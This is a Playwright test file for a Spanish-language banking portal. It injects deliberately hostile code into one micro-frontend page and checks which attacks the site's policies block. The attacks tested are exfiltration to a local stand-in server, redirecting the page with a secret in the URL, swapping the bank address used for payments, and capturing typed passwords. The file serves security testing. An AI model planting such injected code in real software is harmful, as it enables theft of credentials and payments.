import { createServer } from 'node:http';
import { type AddressInfo, createServer as createListener, type Socket } from 'node:net';
import type { Page } from '@playwright/test';
import { test as base, expect, fallback } from '../../setup/failure-mode.ts';
import { logInAgain } from '../../setup/log-in-again.ts';
import { bankOf, chooseBank, instalments, payButton } from '../../setup/payment.ts';
import { buildOfEdit } from '../../setup/releases.ts';
import { PASSWORD } from '../../setup/test.ts';
import {
  could,
  couldNot,
  type Elsewhere,
  replaceWhatLeadsToTheBank,
  tryEverything,
  writeDownWhatIsTyped,
} from './attempts.ts';

const OPENING = 'export default function SummaryPage() {';

/** What the release offers to its tests, from its own code. */
interface Hostile {
  tryEverything(elsewhere: Elsewhere, other: string): ReturnType<typeof tryEverything>;
  replaceWhatLeadsToTheBank(elsewhere: string): void;
  leave(address: string): void;
}

let build: Promise<string> | undefined;
/** The release with the hostile code; one build for all tests. */
const hostileBuild = (): Promise<string> => {
  build ??= buildOfEdit(
    'mf-customer',
    'src/pages/resumen/page.tsx',
    (source) =>
      source.replace(
        OPENING,
        `import React from 'react';
      // @ts-nocheck
      ${tryEverything.toString().replace('import(', 'import(/* webpackIgnore: true */ ')}
      ${replaceWhatLeadsToTheBank.toString()}
      ${writeDownWhatIsTyped.toString()}
      writeDownWhatIsTyped();
      Object.assign(window, { hostile: {
        // In a turn of its own: the policy lets what a test has the page run do more.
        tryEverything: (elsewhere, other) =>
          new Promise((done) => setTimeout(() => done(tryEverything(elsewhere, other, React)))),
        replaceWhatLeadsToTheBank,
        leave(address) { location.href = address; },
      } });
      ${OPENING}`,
      ),
    // A page without a line of its own has room for all that code.
    { 'budgets.json': (budgets) => budgets.replace(/"\.\/resumen": \d+,/, '') },
  );
  return build;
};

/** Has the hostile code do something. */
const hostile = <G, R>(page: Page, act: (hostile: Hostile, given: G) => R, given: G): Promise<Awaited<R>> =>
  page.evaluate(`(${act.toString()})(window.hostile, ${JSON.stringify(given)})`) as Promise<Awaited<R>>;

interface Seen extends Elsewhere {
  /** Attempts by which something arrived. */
  readonly arrived: Set<string>;
}

const test = base.extend<{ elsewhere: Seen }>({
  // Violations of the policy are what these tests are about.
  // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the dependencies from this pattern.
  faults: async ({}, use) => use([]),
  // biome-ignore lint/correctness/noEmptyPattern: as above.
  elsewhere: async ({}, use) => {
    const arrived = new Set<string>();
    const answering = createServer((request, response) => {
      const name = decodeURIComponent(new URL(request.url ?? '', 'http://elsewhere').pathname.slice(1));
      if (name !== 'favicon.ico') arrived.add(name);
      response.writeHead(200, { 'access-control-allow-origin': '*' }).end('');
    });
    const sockets: Socket[] = [];
    const relaying = createListener((socket) => {
      arrived.add('send by WebRTC');
      sockets.push(socket.on('error', () => {}));
    });
    const servers = [answering, relaying];
    const ports: number[] = [];
    for (const server of servers) {
      await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready));
      ports.push((server.address() as AddressInfo).port);
    }
    const [url, relay] = ports;
    await use({ url: `http://127.0.0.1:${url}`, relay: `127.0.0.1:${relay}`, arrived });
    answering.closeAllConnections();
    for (const socket of sockets) socket.destroy();
    for (const server of servers) await new Promise((done) => server.close(done));
  },
});

test.beforeEach(async ({ release }) => {
  expect(await release('mf-customer', '--from', await hostileBuild())).toContain('is live for everybody');
});

const ready = (page: Page) => page.waitForFunction(() => 'hostile' in window);

/** What other tests of this file find out. */
const elsewhereTried = [
  "replace the bank's address of a payment",
  'read a password that is typed where its code never ran',
  'read a password that is typed after it, in the same document',
  'send by taking the page to another site',
];

test('[F6] a hostile remote reaches what its origin has and nothing that takes a proof', async ({
  page,
  elsewhere,
}) => {
  test.setTimeout(240_000);
  await page.goto('/resumen');
  await ready(page);
  const { url, relay, arrived } = elsewhere;
  const outcomes = await hostile(
    page,
    ({ tryEverything }, { elsewhere, other }) => tryEverything(elsewhere, other),
    { elsewhere: { url, relay }, other: '2020202020' },
  );
  console.info(JSON.stringify(outcomes, null, 1));
  const known = [...couldNot, ...could].filter((name) => !elsewhereTried.includes(name));
  expect(Object.keys(outcomes).sort()).toEqual(known.sort());
  const done = Object.keys(outcomes).filter((name) => !outcomes[name]?.startsWith('no'));
  await expect
    .poll(() => [...new Set([...done, ...arrived])].sort(), { timeout: 20_000 })
    .toEqual(could.filter((name) => !elsewhereTried.includes(name)).sort());
  // The page of another remote, loaded after all that, is that remote's.
  await page.getByRole('link', { name: 'Facturas' }).locator('visible=true').first().click();
  await expect(page.getByRole('heading', { level: 1, name: 'Facturas' })).toBeVisible();
});

test('[F6] what a hostile remote knows leaves with the whole page, which policies cannot hold', async ({
  page,
  elsewhere,
}) => {
  await page.goto('/resumen');
  await ready(page);
  const address = `${elsewhere.url}/${encodeURIComponent('send by taking the page to another site')}?d=secret`;
  await hostile(page, ({ leave }, to) => leave(to), address);
  await expect.poll(() => [...elsewhere.arrived]).toContain('send by taking the page to another site');
});

test("[F6, PY-13] a hostile remote that goes on replacing what is called leads no payment to another site than the bank's", async ({
  page,
  portal,
  elsewhere,
}) => {
  await page.goto('/resumen');
  await ready(page);
  const lastOf = async () => (await bankOf(portal.bankUrl).transactions()).length;
  const before = await lastOf();
  await page.getByRole('link', { name: 'Facturas' }).locator('visible=true').first().click();
  await instalments(page).first().check();
  await chooseBank(page);
  await hostile(page, ({ replaceWhatLeadsToTheBank }, to) => replaceWhatLeadsToTheBank(to), elsewhere.url);
  // It does what it is to do: a page that asks with what stands there now is led astray.
  expect(await page.evaluate(() => new URL('https://banco.example/').href)).toContain(elsewhere.url);
  await payButton(page).click();
  await page.getByRole('heading', { name: 'Confirma tu pago' }).waitFor();
  expect(new URL(page.url()).origin).toBe(new URL(portal.bankUrl).origin);
  expect(await lastOf()).toBe(before + 1);
  expect([...elsewhere.arrived]).toEqual([]);
});

const typed = (page: Page): Promise<readonly string[]> =>
  page.evaluate(() => (window as { typed?: readonly string[] }).typed ?? []);

test('[F6] a password is read by a hostile remote in the document it ran in, and in no other', async ({
  page,
  context,
}) => {
  await test.step('in the same document', async () => {
    // At rest: of the calls that the page makes by itself none may be the one that is told.
    await page.goto('/resumen', { waitUntil: 'networkidle' });
    await ready(page);
    await context.clearCookies({ name: 'session' });
    await page.getByRole('link', { name: 'Facturas' }).locator('visible=true').first().click();
    await logInAgain(page, '1010101010');
    await expect(page.getByRole('button', { name: /Menú de/ }).first()).toBeVisible();
    expect(await typed(page)).toContain(PASSWORD);
  });
  await test.step('where its code never ran', async () => {
    await context.clearCookies();
    await page.evaluate(() => localStorage.clear());
    await page.goto('/login');
    await page.getByLabel('Cédula').fill('1010101010');
    await page.getByLabel('Contraseña', { exact: true }).fill(PASSWORD);
    expect(await typed(page)).toEqual([]);
    await page.getByRole('button', { name: 'Ingresar', exact: true }).click();
    await ready(page);
    await expect(fallback(page)).toHaveCount(0);
    expect(await typed(page)).toEqual([]);
  });
});
